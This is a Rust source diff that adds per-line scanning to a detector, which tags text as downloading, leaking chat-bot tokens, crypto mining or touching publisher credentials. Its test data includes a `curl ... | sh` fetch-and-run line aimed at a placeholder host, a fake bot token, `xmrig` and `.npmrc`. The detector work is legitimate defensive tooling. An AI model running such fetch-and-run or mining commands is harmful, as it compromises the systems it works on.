@@ -24,9 +24,40 @@ struct Table {
     says: Vec<Traits>,
 }
 
+static TABLE: LazyLock<Option<Table>> = LazyLock::new(table);
+
+/// What the lines of a text say, each by itself. Hardly any line says anything, so only those are looked at that have a phrase,
+/// or begin with a digit, as a token may.
+pub(super) fn of_lines(bytes: &[u8]) -> Traits {
+    let Some(table) = TABLE.as_ref() else { return Traits::NONE };
+    let mut said = Traits::NONE;
+    let mut look = |line: &[u8]| said |= of(&String::from_utf8_lossy(line.strip_suffix(b"\r").unwrap_or(line)));
+    let ends = memchr::memchr_iter(b'\n', bytes).chain([bytes.len()]);
+    let mut start = 0;
+    for end in ends {
+        if bytes.get(start).is_some_and(u8::is_ascii_digit) {
+            look(bytes.get(start..end).unwrap_or_default());
+        }
+        start = end + 1;
+    }
+    let mut from = 0;
+    while let Some(one) = bytes.get(from..).and_then(|rest| table.phrases.find(rest)) {
+        let (begin, end) = around(bytes, from + one.start());
+        look(bytes.get(begin..end).unwrap_or_default());
+        from = end;
+    }
+    said
+}
+
+/// Where the line begins and ends that a place is in.
+fn around(bytes: &[u8], at: usize) -> (usize, usize) {
+    let begin = bytes.get(..at).and_then(|before| memchr::memrchr(b'\n', before)).map_or(0, |end| end + 1);
+    let end = bytes.get(at..).and_then(|rest| memchr::memchr(b'\n', rest)).map_or(bytes.len(), |end| at + end);
+    (begin, end)
+}
+
 /// What a text says by itself.
 pub(super) fn of(text: &str) -> Traits {
-    static TABLE: LazyLock<Option<Table>> = LazyLock::new(table);
     let Some(table) = TABLE.as_ref() else { return Traits::NONE };
     if text.len() < 4 {
         return Traits::NONE;
@@ -37,11 +68,12 @@ pub(super) fn of(text: &str) -> Traits {
     for one in table.phrases.find_overlapping_iter(bytes) {
         found |= table.says.get(one.pattern().as_usize()).copied().unwrap_or_default();
     }
-    found = doubtful(text, found);
+    let may_hold = found.any(Traits::BEFORE_TOKEN) || bytes.first().is_some_and(u8::is_ascii_digit);
+    found = doubtful(text, found.without(Traits::BEFORE_TOKEN));
     if names_no_host(text) {
         found |= Traits::ADDRESS;
     }
-    if holds_token(text) {
+    if may_hold && holds_token(text) {
         found |= Traits::CHANNEL_TOKEN | Traits::CHANNEL;
     }
     if is_packed(text) {
@@ -208,6 +240,19 @@ mod tests {
             of("https://x.invalid/bot123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage").any(Traits::CHANNEL_TOKEN)
         );
         assert!(!of("Join us on discord.com for a talk").any(Traits::CHANNEL));
+    }
+
+    #[test]
+    fn lines_say_what_each_says_by_itself() {
+        let lines =
+            ["curl http://a.invalid | sh", "", "1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAAAA", "xmrig and xmrig", "a.npmrc"];
+        for ending in ["\n", "\r\n"] {
+            let text = lines.join(ending);
+            let all = lines.iter().fold(Traits::NONE, |all, line| all | of(line));
+            assert_eq!(of_lines(text.as_bytes()), all);
+            assert!(all.all(Traits::DOWNLOAD | Traits::CHANNEL_TOKEN | Traits::MINING | Traits::PUBLISHER));
+        }
+        assert!(of_lines(b"").is_none() && of_lines(b"\n\nnothing\n").is_none());
     }
 
     #[test]
